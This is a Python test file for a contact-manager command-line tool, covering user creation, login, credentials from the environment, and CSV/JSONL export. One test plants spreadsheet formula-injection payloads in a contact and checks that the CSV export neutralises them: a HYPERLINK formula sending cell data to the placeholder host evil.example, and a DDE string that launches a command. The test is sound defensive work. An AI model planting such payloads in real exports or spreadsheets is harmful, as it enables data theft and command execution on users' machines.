"""`contacthub user add` and `contacthub export`, against a real server."""

from __future__ import annotations

import csv
import json
import stat
import subprocess
from pathlib import Path

from tests.cli.test_failures import run as run_clean
from tests.conftest import CONTACTHUB, Org, contact, free_port


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [CONTACTHUB, *args], capture_output=True, text=True, timeout=60, check=False
    )


def test_user_add_prints_the_new_user_id_and_the_user_can_log_in(org: Org) -> None:
    done = run(
        "user", "add", "--url", org.server.url, "--appid", str(org.appid), "--secret", org.secret,
        "--extension", "303", "--name", "Meena", "--phone", "+91 92000 33333",
        "--password", "a long password", "--json",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    added = json.loads(done.stdout)
    assert added["agent_id"] == f"303_{org.appid}"
    login = org.post("/v2/user/login", {"id": added["agent_id"], "password": "a long password"})
    assert login.status_code == 200


def test_user_add_reports_the_servers_refusal(org: Org) -> None:
    done = run(
        "user", "add", "--url", org.server.url, "--appid", str(org.appid), "--secret", "wrong",
        "--extension", "304", "--name", "M", "--phone", "919200033334", "--password", "long enough",
    )  # fmt: skip
    assert done.returncode == 1
    assert "404" in done.stderr
    bad = run(
        "user", "add", "--url", org.server.url, "--appid", str(org.appid), "--secret", org.secret,
        "--extension", "0", "--name", "M", "--phone", "12", "--password", "short",
    )  # fmt: skip
    assert bad.returncode == 2
    assert "--extension" in bad.stderr
    assert "--phone" in bad.stderr


def test_export_streams_every_contact_as_csv(org: Org, tmp_path: Path) -> None:
    phones = [f"9198700{n:05d}" for n in range(150)]
    for start in (0, 100):
        org.add([contact(phone, company="Acme") for phone in phones[start : start + 100]])
    target = tmp_path / "contacts.csv"
    done = run(
        "export", "--url", org.server.url, "--user-id", org.user_id, "--password", org.password,
        "-o", str(target),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with target.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["phone_no"] for row in rows] == phones
    assert rows[0]["company"] == "Acme"
    assert "Exported 150 contacts" in done.stderr


def test_export_jsonl_with_a_search_and_a_token(org: Org) -> None:
    org.add([contact("919870100001", "Zoë"), contact("919870100002", "Adam")])
    done = run(
        "export", "--url", org.server.url, "--token", org.token, "--format", "jsonl",
        "--search", "ZOË",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["first_name"] for line in lines] == ["Zoë"]


def test_export_needs_credentials(org: Org) -> None:
    done = run("export", "--url", org.server.url)
    assert done.returncode == 2
    assert "--token" in done.stderr
    wrong = run("export", "--url", org.server.url, "--token", "nope")
    assert wrong.returncode == 1
    assert "404" in wrong.stderr


def test_export_makes_formulas_inert_and_is_readable_by_its_owner_only(
    org: Org, tmp_path: Path
) -> None:
    hostile = contact(
        "919870200001",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(1+1)",
        company="+cmd|' /C calc'!A0",
        job_title="-2+3",  # only digits and phone punctuation: no formula, left as it is
    )
    assert org.add([hostile]).status_code == 200
    target = tmp_path / "contacts.csv"
    target.write_text("an older export\n")
    target.chmod(0o644)
    done = run("export", "--url", org.server.url, "--token", org.token, "-o", str(target))
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with target.open(newline="", encoding="utf-8") as file:
        [row] = list(csv.DictReader(file))
    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["last_name"] == "'@SUM(1+1)"
    assert row["company"] == "'+cmd|' /C calc'!A0"
    assert row["job_title"] == "-2+3"
    assert row["phone_no"] == "919870200001"
    # JSON lines are data, not a spreadsheet: kept as stored.
    jsonl = run("export", "--url", org.server.url, "--token", org.token, "--format", "jsonl")
    assert json.loads(jsonl.stdout)["company"] == "+cmd|' /C calc'!A0"


def test_the_url_and_the_token_come_from_the_environment(org: Org) -> None:
    org.add([contact("919870200001", "Zoë")])
    env = {"CONTACTHUB_URL": org.server.url, "CONTACTHUB_TOKEN": org.token}
    done = run_clean("export", "--format", "jsonl", env=env)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["first_name"] == "Zoë"


def test_flags_beat_the_environment(org: Org) -> None:
    org.add([contact("919870300001", "Zoë")])
    closed = f"http://127.0.0.1:{free_port()}"
    env = {"CONTACTHUB_URL": closed, "CONTACTHUB_TOKEN": "not a token"}
    at = ("--url", org.server.url, "--format", "jsonl")
    by_token = run_clean("export", *at, "--token", org.token, env=env)
    assert by_token.returncode == 0, by_token.stderr
    by_login = run_clean("export", *at, "--user-id", org.user_id, "--password", org.password,
                         env=env)  # fmt: skip
    assert by_login.returncode == 0, by_login.stderr
    assert by_token.stdout == by_login.stdout != ""


def test_login_prints_a_token_for_contacthub_token(org: Org) -> None:
    org.add([contact("919870400001", "Zoë")])
    env = {"CONTACTHUB_URL": org.server.url}
    done = run_clean("login", "--user-id", org.user_id, "--password", org.password, env=env)
    assert done.returncode == 0, done.stderr
    token = done.stdout.strip()
    assert len(token) >= 32
    assert token != org.token
    exported = run_clean("export", "--format", "jsonl", env={**env, "CONTACTHUB_TOKEN": token})
    assert exported.returncode == 0, exported.stderr
    assert json.loads(exported.stdout)["phone_no"] == "919870400001"
